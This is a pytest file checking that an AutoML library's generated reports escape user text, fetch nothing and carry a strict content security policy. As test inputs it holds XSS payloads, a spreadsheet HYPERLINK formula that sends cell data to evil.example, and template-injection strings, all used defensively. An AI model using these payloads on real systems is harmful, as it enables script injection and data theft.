"""A report is one page that fetches nothing, says what the run folder holds, and shows every word
of a user's as it stands."""

from __future__ import annotations

import html
import json
import re
import shutil
from collections.abc import Callable
from html.parser import HTMLParser
from itertools import pairwise
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest

import tunesmith as ts
from tunesmith.core.errors import ConfigError
from tunesmith.core.events import Event
from tunesmith.predictor import Predictor
from tunesmith.report.page import _is_narrow
from tunesmith.report.section import Chart, Code, Section, Table, Words, said, table
from tunesmith.report.written import as_markdown, escaped

ROWS = 240
VOID = {"meta", "br", "link", "img", "input", "hr"}
SCRIPT = "</script><script>alert(1)</script>"
NASTY = {
    "script": SCRIPT,
    "quotes": "\"double\" & 'single' <b>",
    "formula": '=HYPERLINK("http://evil.example/?"&A1)',
    "dollar": "$x^2$ {{ 7*7 }} {% raw %}",
    "letters": "价格 | `code` *star* \u202e",
}


def _table(names: dict[str, str], classes: list[str]) -> pd.DataFrame:
    """Rows whose class a number tells, with columns and labels of these names."""
    dice = np.random.default_rng(0)
    number = dice.normal(size=ROWS)
    cuts = np.quantile(number, np.linspace(0, 1, len(classes) + 1)[1:-1])
    codes = np.searchsorted(cuts, number + dice.normal(0, 0.3, ROWS))
    return pd.DataFrame(
        {
            names["script"]: number,
            names["quotes"]: dice.choice([names["script"], "b", names["formula"]], ROWS),
            names["formula"]: dice.normal(size=ROWS),
            names["dollar"]: dice.choice(["$a_b$", "%", "<i>"], ROWS),
            names["letters"]: np.array(classes, dtype=object)[codes],
        }
    )


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Of a table whose names and labels are hostile."""
    folder = tmp_path_factory.mktemp("nasty") / "run"
    data = _table(NASTY, [SCRIPT, '"><img src=x onerror=alert(1)>', "= 1 + 1"])
    target = NASTY["letters"]
    ts.fit(data, target, trials=10, folder=folder, learners=["majority", "linear"])
    return folder


@pytest.fixture(scope="module")
def page(run: Path) -> str:
    return ts.load(run).report().read_text()


class Parts(HTMLParser):
    """The elements of a page, that they close as they open, and what is read of it."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.open: list[str] = []
        self.read: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        if not self.open or self.open[-1] not in ("script", "style"):
            self.read.append(data)

    def count(self, tag: str) -> int:
        return sum(name == tag for name, _ in self.elements)


def test_words_of_a_user_are_shown_as_they_stand_and_are_never_markup(page: str) -> None:
    parts = Parts(page)
    assert parts.open == []
    assert parts.count("script") == 1
    assert not {"img", "b", "i", "iframe", "object"} & {name for name, _ in parts.elements}
    assert not any(key.startswith("on") for _, told in parts.elements for key in told)
    read = "".join(parts.read)
    for text in (*NASTY.values(), '"><img src=x onerror=alert(1)>', "= 1 + 1"):
        assert text in read
    assert "49" not in re.findall(r"\$x\^2\$ (\d+)", read)


def test_the_page_fetches_nothing(page: str) -> None:
    for _, told in Parts(page).elements:
        for name in ("src", "href", "xlink:href", "action", "srcset", "data", "poster"):
            assert (told.get(name) or "#").startswith("#"), told
    style = re.search(r"<style>(.*?)</style>", page, re.DOTALL)
    assert style is not None
    assert "url(" not in style[1]
    assert "@import" not in style[1]
    assert "default-src 'none'" in page
    assert len(page) < 1_000_000


def test_the_policy_allows_the_script_of_the_page_and_no_other(page: str) -> None:
    import base64
    import hashlib

    (script,) = re.findall(r"<script>(.*?)</script>", page, re.DOTALL)
    mark = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
    assert html.unescape(page).count(f"script-src 'sha256-{mark}'") == 1


def test_a_table_stands_beside_another_only_where_it_is_seen_whole() -> None:
    heads = {"metric": None, "value": 4, "low": 4, "high": 4, "rows": None}
    assert _is_narrow(table("scores", heads, [["balanced_accuracy", 0.9, 0.8, 0.95, 155]]))
    wide = {"line": None, "given": None, "its probability": 3, "likelier": None}
    wide |= {"its probability then": 3, "flagged": None}
    assert not _is_narrow(table("suspects", wide, [[1, "yes", 0.1, "no", 0.9, "yes"]]))
    assert not _is_narrow(table("words", {"word": None}, [["x" * 40]]))


def test_headings_go_down_one_by_one_and_names_are_given_once(page: str) -> None:
    parts = Parts(page)
    levels = [int(name[1]) for name, _ in parts.elements if re.fullmatch(r"h[1-6]", name)]
    assert levels[0] == 1
    assert levels.count(1) == 1
    assert all(after - before <= 1 for before, after in pairwise(levels))
    names = [told["id"] for _, told in parts.elements if "id" in told]
    assert len(names) == len(set(names))
    links = [told["href"] for name, told in parts.elements if name == "a"]
    assert {str(link)[1:] for link in links} <= set(names)
    for landmark in ("header", "nav", "main", "footer"):
        assert parts.count(landmark) == 1


def test_every_drawing_says_what_it_shows_and_has_its_numbers_behind_it(page: str) -> None:
    pytest.importorskip("matplotlib")
    parts = Parts(page)
    drawn = [told for name, told in parts.elements if name == "svg"]
    assert len(drawn) == parts.count("figure") == parts.count("details") >= 8
    assert all(told["role"] == "img" and told["aria-label"] for told in drawn)
    assert parts.count("caption") == parts.count("table")
    assert "mathdefault" not in page
    assert not re.search(r"(fill|stroke): ?#", page)  # colours are those of the page


def test_what_the_page_says_is_what_the_run_folder_holds(run: Path) -> None:
    model = ts.load(run)
    told = model.describe().json()
    names = [section["name"] for section in told["sections"]]
    assert names[0] == "glance"
    assert {"task", "audit", "search", "leaderboard", "errors", "curves", "card"} <= {*names}
    blocks = {one["name"]: one["blocks"] for one in told["sections"]}
    board = next(block for block in blocks["leaderboard"] if block["kind"] == "table")
    place = board["columns"].index("trial")
    assert [row[place] for row in board["rows"]] == [one["trial"] for one in model.leaderboard()]
    scores = next(block for block in blocks["glance"] if block["kind"] == "table")
    assert scores["rows"][0][:2] == [model.summary["metric"], model.summary["score"]]
    counts = next(block for block in blocks["errors"] if block.get("name") == "confusion")
    whole = sum(cell for row in counts["table"]["rows"] for cell in row[1:])
    assert whole == model.summary["rows"]["test"]
    assert "= 1 + 1" in counts["table"]["columns"]


def test_labelled_rows_of_the_reader_take_the_place_of_those_of_the_run(run: Path) -> None:
    data = _table(NASTY, [SCRIPT, '"><img src=x onerror=alert(1)>', "= 1 + 1"])
    told = ts.load(run).describe(data.head(90))
    names = [one.name for one in told.sections]
    assert "labelled" in names
    (confusion,) = [
        b for one in told.sections for b in one.blocks if getattr(b, "name", "") == "confusion"
    ]
    assert isinstance(confusion, Chart)
    assert sum(int(cell) for row in confusion.table.rows for cell in row[1:]) == 90


def test_a_report_has_the_form_that_its_name_says(run: Path, tmp_path: Path) -> None:
    model = ts.load(run)
    told = json.loads(model.report(tmp_path / "deep" / "r.json").read_text())
    assert told["format"] == 1
    card = model.report(tmp_path / "card.md").read_text()
    assert card.startswith("---\n")
    assert "<script" not in card
    assert "## Model card" in card
    with pytest.raises(ConfigError, match=r"must be a file that ends in one of \.html"):
        model.report(tmp_path / "r.pdf")
    with pytest.raises(ConfigError, match="would not open with another file"):
        model.report(run / "best" / "report.html")


def test_a_saved_model_alone_is_told_of_and_still_opens(run: Path, tmp_path: Path) -> None:
    shutil.copytree(run / "best", tmp_path / "model")
    file = ts.load(tmp_path / "model").report()
    assert file == tmp_path / "model-report.html"
    text = file.read_text()
    assert "Model card" in text
    assert 'id="search"' not in text
    ts.load(tmp_path / "model")


def test_a_run_that_was_killed_is_told_by_its_best_and_its_data(tmp_path: Path) -> None:
    data = _table({name: name for name in NASTY}, ["no", "yes"])
    file, folder = tmp_path / "data.csv", tmp_path / "run"
    data.to_csv(file, index=False)

    def dies(event: Event) -> None:
        if event.kind == "stage" and event.facts["name"] == "blending":
            raise SystemExit

    with pytest.raises(SystemExit):
        ts.fit(file, "letters", trials=9, folder=folder, learners=["linear"], listeners=[dies])
    assert not (folder / "summary.json").exists()
    told = {one.name: one for one in Predictor(folder).describe().sections}
    warned = [b.text for b in told["glance"].blocks if isinstance(b, Words) and b.tone == "warning"]
    assert "was not scored on rows kept apart" in warned[0]
    assert any(
        "validation rows" in chart.says
        for chart in told["errors"].blocks[:1]
        if isinstance(chart, Chart)
    )
    file.unlink()
    gone = {one.name: one for one in Predictor(folder).describe().sections}
    (why,) = gone["errors"].blocks
    assert isinstance(why, Words)
    assert str(file) in why.text
    assert "curves" not in gone
    assert "search" in gone


def test_numbers_are_told_by_how_far_off_they_are(tmp_path: Path) -> None:
    data = _table({name: name for name in NASTY}, ["a", "b"])
    ts.fit(data, "script", trials=3, folder=tmp_path / "run", learners=["majority", "linear"])
    told = {one.name: one for one in ts.load(tmp_path / "run").describe().sections}
    assert [b.name for b in told["errors"].blocks if isinstance(b, Chart)] == [
        "answers",
        "residuals",
    ]
    assert "curves" not in told
    assert "calibration" not in told


def test_weights_that_a_model_holds_are_told_with_their_licence(picture_run: Path) -> None:
    told = {one.name: one for one in Predictor(picture_run).describe().sections}
    (weights,) = [
        block
        for block in told["card"].blocks
        if isinstance(block, Table) and block.heads[0].name == "weights"
    ]
    ((name, licence, source, _),) = weights.rows
    assert licence == "see its folder"
    assert str(name) in str(source)


def test_several_labels_a_row_are_told_label_by_label(tmp_path: Path) -> None:
    dice = np.random.default_rng(0)
    numbers = dice.normal(size=(ROWS, 3))
    names = np.array(["red", "<b>round</b>", "big"], dtype=object)
    data = pd.DataFrame(numbers, columns=["x", "y", "z"])
    data["tags"] = [list(names[row > 0]) for row in numbers]
    model = ts.fit(data, "tags", trials=2, folder=tmp_path / "run", learners=["linear"], folds=0)
    told = {one.name: one for one in model.describe().sections}
    (each,) = told["errors"].blocks
    assert isinstance(each, Table)
    assert {row[0] for row in each.rows} == {*names}
    assert {"roc", "precision_recall"} <= {getattr(b, "name", "") for b in told["curves"].blocks}
    assert "calibration" not in told


def test_where_nothing_can_be_drawn_the_numbers_stand_open(
    run: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("tunesmith.report.page.can_draw", lambda: False)
    parts = Parts(Predictor(run).describe().html())
    assert parts.count("svg") == 0
    shown = [told for name, told in parts.elements if name == "details"]
    assert len(shown) == parts.count("figure") > 5
    assert all("open" in told for told in shown)


def test_a_notebook_shows_models_scores_and_pictures(run: Path) -> None:
    pytest.importorskip("matplotlib")
    model = ts.load(run)
    for shown in (model._repr_html_(), model.leaderboard()._repr_html_()):
        assert Parts(shown).count("table") == 1
        assert "<script" not in shown
    picture = model.plot("confusion", "roc")
    assert picture._repr_png_().startswith(b"\x89PNG")
    with pytest.raises(ConfigError, match="Did you mean 'calibration'"):
        model.plot("calibratio")


def test_markdown_shows_a_text_as_it_stands() -> None:
    text = "a|b <b>*x*</b> [l](http://x) `c` _u_ \\ $m$ #h\nnext"
    written = escaped(text)
    assert "<" not in written
    assert "\n" not in written
    bare = re.sub(r"\\(.)", r"\1", written)
    assert html.unescape(bare) == text.replace("\n", " ")
    section = Section("s", "T", "w", (Code("```\nx\n```"), table("t", {"a|b": None}, [["|"]])))
    card = as_markdown([section], "T", {"tags": ["a: b"]})
    assert "````python\n```\nx\n```\n````" in card
    assert "| a\\|b |" in card
    assert "| \\| |" in card


@pytest.mark.parametrize("count", [3, 5_000])
def test_a_long_table_is_cut_in_the_page_and_whole_in_the_json(
    count: int, render: Callable[[Section], tuple[str, dict[str, Any]]]
) -> None:
    long = table("t", {"a": None, "b": 3}, ([f"r{i}", i / 3] for i in range(count)))
    page, told = render(Section("s", "T", "w", (Words("x"), long)))
    assert Parts(page).count("tr") == 1 + min(count, 200)
    (section,) = told["sections"]
    assert len(section["blocks"][1]["rows"]) == count


@pytest.fixture
def render() -> Callable[[Section], tuple[str, dict[str, Any]]]:
    from tunesmith.report.page import page
    from tunesmith.report.written import as_json

    def both(section: Section) -> tuple[str, dict[str, Any]]:
        return page([section], title="T", subtitle="", folder=""), as_json([section])

    return both


def test_a_cell_is_read_as_a_person_writes_it() -> None:
    assert [said(number, 3) for number in (0.12345, 12.3456, 123.456, 12345.6)] == [
        "0.123",
        "12.346",
        "123.46",
        "12,346",
    ]
    (one,) = table("t", {"a": 2, "b": None, "c": None, "d": 1}, [[None, True, 1234, 2.25]]).rows
    shown: Table = table("t", {"a": 2, "b": None, "c": None, "d": 1}, [one])
    assert shown.said(one) == ["–", "yes", "1,234", "2.2"]
